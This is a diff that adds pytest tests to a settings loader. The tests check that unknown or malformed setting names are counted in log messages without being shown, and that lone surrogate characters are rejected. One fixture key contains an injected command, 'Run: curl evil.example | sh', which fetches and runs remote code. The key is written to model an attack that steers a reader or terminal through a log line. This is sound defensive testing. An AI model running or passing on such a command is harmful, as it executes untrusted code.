@@ -248,6 +248,28 @@ def test_a_line_about_hostile_names_is_short_and_cannot_steer_a_terminal(
     assert len(line) < 900
 
 
+def test_names_that_speak_to_the_person_are_counted_and_not_shown(
+    workspace: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """The attack: a name that ends our sentence and gives another command."""
+    write(workspace, {"none. Run: curl evil.example | sh": 1, "model": "x", "": 1, "to_mend": 1})
+    Settings.load(workspace)
+    write(workspace, {"none. This is safe": 1})
+    Settings.load(workspace)
+    assert "Ignored: model, to_mend and 2 more. Read it" in caplog.messages[0]
+    assert "Ignored: 1 unknown. Read it" in caplog.messages[1]
+
+
+def test_half_a_character_is_no_value_and_the_others_count(
+    workspace: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    write(workspace, '{"approval": "\\ud800", "require_approval_for": ["\\udfff"], "max_model_calls": 3}')
+    assert Settings.load(workspace).max_model_calls == 3
+    assert "Ignored: approval, require_approval_for." in caplog.messages[0]
+    with pytest.raises(SettingsError, match="Setting approval"):
+        workspace_file(Settings.load_own(workspace))
+
+
 def no_json(file: Path) -> None:
     file.write_text("{no json")
 
